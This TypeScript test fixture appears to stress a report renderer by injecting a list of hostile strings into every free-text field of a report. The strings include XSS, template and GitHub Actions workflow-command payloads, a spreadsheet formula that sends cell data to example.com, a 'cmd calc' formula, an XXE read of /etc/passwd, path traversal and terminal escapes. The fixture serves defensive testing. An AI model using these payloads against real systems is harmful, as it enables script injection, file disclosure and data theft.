import type {Report} from '../../../src/model/report.ts'

/** What a name, a tag or a message of AWS may hold to do harm where it is shown; each is put into every free text of a report. */
export const payloads: Readonly<Record<string, string>> = {
  script: '</script><script>window.__hit=1</script>',
  'data script': '<!--<script>window.__hit=1</script>-->]]>',
  image: '"><img src=x onerror="window.__hit=1">',
  'svg handler': "'><svg/onload=window.__hit=1>",
  frame: '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
  style: '</style><style>*{display:none}</style><base href="https://example.com/">',
  template: '${window.__hit=1}{{7*7}}<%= 7 %>#{7}`${1}`',
  link: '[click](javascript:alert`1`) ![x](https://example.com/x.png) <https://example.com> https://example.com',
  mention: '@octocat #1 GH-1 octocat/hello#1 :tada:',
  markdown: '| a | `b` ``` \\` ~~~ *x* _y_ **z** <details> &lt; &amp; \\| ',
  command: '\n::error file=a.tf::forged\r\n::set-output name=a::b\n##[error]x\n::stop-commands::x',
  formula: '=HYPERLINK("https://example.com/?x="&A1,"click")',
  'formula sum': "@SUM(1+1)*cmd|' /C calc'!A0",
  'formula plus': '+1+cmd',
  'formula minus': '-2+3',
  terminal: '\u001B[2J\u001B]0;owned\u0007\u001B]8;;https://example.com\u001B\\x\u009B31m\u0008\u007F',
  bidi: 'user\u202Enimda\u2066\u200F\u061C\u200B\u2028\u2029\uFEFF',
  xml: 'a\u0000b\u0001c\uFFFE\uFFFF ]]> <?x?> <!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]> &b;',
  surrogate: 'a\uD800b\uDC00c',
  path: '../../../etc/passwd?x#y%00%2e%2e file:///etc/passwd C:\\x //example.com/x',
  prototype: '__proto__',
  long: 'x'.repeat(5000),
}

/** Keys whose text is one of a few words of ours. */
const fixed = new Set([
  'code',
  'severity',
  'confidence',
  'fingerprint',
  'kind',
  'reason',
  'certainty',
  'means',
  'cause',
  'on',
  'otherSide',
  'standing',
  'activation',
  'basis',
  'method',
  'prices',
  'currency',
  'hindrance',
  'reader',
  'notes',
  'caveats',
  'byCode',
  'bySeverity',
  'tool',
])

/** The report with a payload behind, or in place of, every text that comes from states, code, AWS or policies. */
export function poisoned(report: Report, payload: string, isAlone = false): Report {
  return poison(report, payload, isAlone) as Report
}

function poison(value: unknown, payload: string, isAlone: boolean): unknown {
  if (typeof value === 'string') return isFigure(value) ? value : isAlone ? payload : `${value}${payload}`
  if (Array.isArray(value)) return value.map((item) => poison(item, payload, isAlone))
  if (typeof value !== 'object' || value === null || Object.getPrototypeOf(value) !== Object.prototype) return value
  return Object.fromEntries(
    Object.entries(value).map(([key, item]) => [key, fixed.has(key) ? item : poison(item, payload, isAlone)]),
  )
}

/** Numbers and times. */
function isFigure(text: string): boolean {
  return /^-?\d+(\.\d+)?$/.test(text) || /^\d{4}-\d\d-\d\d(T|$)/.test(text)
}
